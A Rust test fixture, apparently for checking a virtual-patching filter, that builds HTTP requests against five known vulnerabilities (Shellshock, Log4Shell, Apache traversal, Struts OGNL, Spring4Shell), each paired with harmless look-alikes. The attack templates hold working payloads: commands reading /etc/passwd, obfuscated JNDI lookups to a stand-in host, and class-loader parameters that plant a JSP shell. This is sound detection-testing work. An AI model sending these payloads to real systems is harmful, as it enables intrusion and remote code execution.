//! HTTP requests that attack, and twins that look alike and are harmless.

/// One request. Its target carries `id`, so that the server's log can be asked for it.
#[derive(Clone, Debug)]
pub struct Case {
    /// The virtual patch's subject.
    pub against: &'static str,
    pub id: String,
    pub attack: bool,
    pub request: Vec<u8>,
}

/// A request before it has its name: `{id}` in the target is replaced.
struct Template {
    against: &'static str,
    attack: bool,
    target: &'static str,
    headers: &'static str,
    body: &'static str,
}

const fn attack(
    against: &'static str,
    target: &'static str,
    headers: &'static str,
    body: &'static str,
) -> Template {
    Template {
        against,
        attack: true,
        target,
        headers,
        body,
    }
}

const fn benign(
    against: &'static str,
    target: &'static str,
    headers: &'static str,
    body: &'static str,
) -> Template {
    Template {
        against,
        attack: false,
        target,
        headers,
        body,
    }
}

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";

const TEMPLATES: &[Template] = &[
    // A function definition at the very start of a value that becomes an environment variable.
    attack(
        "shellshock",
        "/cgi-bin/status?id={id}",
        "User-Agent: () { :;}; echo; /bin/cat /etc/passwd\r\n",
        "",
    ),
    attack(
        "shellshock",
        "/cgi-bin/status?id={id}",
        "Cookie: () { _; } >_[$($())] { echo hi; id; }\r\n",
        "",
    ),
    benign(
        "shellshock",
        "/cgi-bin/status?id={id}",
        "User-Agent: demo() { return 1; } client/1.0\r\n",
        "",
    ),
    benign(
        "shellshock",
        "/script?id={id}",
        "Content-Type: text/plain\r\n",
        "f() { :; }; f () { echo twice; }",
    ),
    // A JNDI lookup, plain and hidden in nested lookups, wherever a server may log.
    attack(
        "log4shell",
        "/search?id={id}",
        "User-Agent: ${jndi:ldap://192.0.2.7:1389/a}\r\n",
        "",
    ),
    attack(
        "log4shell",
        "/search?id={id}",
        "X-Api-Version: ${${lower:j}${::-n}d${upper:i}:${lower:l}dap://192.0.2.7/a}\r\n",
        "",
    ),
    attack(
        "log4shell",
        "/search?id={id}&q=%24%7Bjndi%3Armi%3A%2F%2F192.0.2.7%2Fa%7D",
        "",
        "",
    ),
    benign(
        "log4shell",
        "/search?id={id}",
        "User-Agent: ${project.version} build\r\n",
        "",
    ),
    benign(
        "log4shell",
        "/search?id={id}&q=how+to+disable+jndi%3Aldap+lookups",
        "",
        "",
    ),
    // Encoded dot segments that a decoder after normalisation turns into a way up.
    attack(
        "apache-traversal",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd?id={id}",
        "",
        "",
    ),
    attack(
        "apache-traversal",
        "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh?id={id}",
        "",
        "",
    ),
    benign("apache-traversal", "/files/report.%2epdf?id={id}", "", ""),
    benign(
        "apache-traversal",
        "/cgi-bin/status?range=1.%2e9&id={id}",
        "",
        "",
    ),
    // OGNL where the multipart parser quotes it in an error message.
    attack(
        "struts",
        "/upload.action?id={id}",
        "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}\r\n",
        "",
    ),
    attack(
        "struts",
        "/upload.action?id={id}",
        "Content-Type: ${(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime().exec('id'))}\r\n",
        "",
    ),
    benign(
        "struts",
        "/upload.action?id={id}",
        "Content-Type: multipart/form-data; boundary=--%7Bform%7D-7\r\n",
        "----%7Bform%7D-7\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nuse %{(#name)} in the template\r\n----%7Bform%7D-7--\r\n",
    ),
    benign(
        "struts",
        "/upload.action?id={id}",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "a template: %{(#_='multipart/form-data')}",
    ),
    // A parameter whose name walks to the class loader.
    attack(
        "spring4shell",
        "/app/login?id={id}",
        FORM,
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    ),
    attack(
        "spring4shell",
        "/app/login?id={id}&class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell",
        "",
        "",
    ),
    benign(
        "spring4shell",
        "/app/enrol?id={id}",
        FORM,
        "class.name=Physics&class.module=2&teacher=Loader",
    ),
    benign(
        "spring4shell",
        "/app/find?id={id}&q=spring+class.module.classLoader+advisory",
        "",
        "",
    ),
];

/// The subjects, each with attacks and twins.
pub const SUBJECTS: [&str; 5] = [
    "shellshock",
    "log4shell",
    "apache-traversal",
    "struts",
    "spring4shell",
];

/// All cases, named after `run`.
pub fn cases(run: &str) -> Vec<Case> {
    TEMPLATES
        .iter()
        .enumerate()
        .map(|(number, template)| {
            let id = format!("{run}-{}-{number:02}", template.against);
            Case {
                against: template.against,
                attack: template.attack,
                request: template.request(&id),
                id,
            }
        })
        .collect()
}

impl Template {
    fn request(&self, id: &str) -> Vec<u8> {
        let target = self.target.replace("{id}", id);
        let (method, length) = match self.body {
            "" => ("GET", String::new()),
            body => ("POST", format!("Content-Length: {}\r\n", body.len())),
        };
        format!(
            "{method} {target} HTTP/1.1\r\nHost: app.test\r\n{}{length}Connection: close\r\n\r\n{}",
            self.headers, self.body
        )
        .into_bytes()
    }
}
